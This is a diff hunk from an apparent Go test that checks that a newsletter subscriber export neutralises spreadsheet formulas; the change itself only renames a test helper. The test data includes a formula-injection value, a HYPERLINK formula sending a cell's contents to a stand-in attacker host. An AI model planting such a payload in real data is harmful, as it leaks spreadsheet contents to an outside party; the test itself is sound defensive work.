@@ -11,7 +11,7 @@ import (
 // run as a formula is exported with a leading quote, and the export
 // imports back to the same name and address.
 func TestSubscriberExportNeutralisesFormulas(t *testing.T) {
-	d := newDesk(t)
+	d := newInstall(t)
 	name := `=HYPERLINK("https://evil.example/?"&A1,"Click")`
 	d.mustRun("subscriber", "add", "=sum@example.org", "--newsletter", "weekly", "--confirmed", "--name", name)
 	d.mustRun("subscriber", "add", "plus@example.org", "--newsletter", "weekly", "--confirmed", "--name", "+1 555 0100")
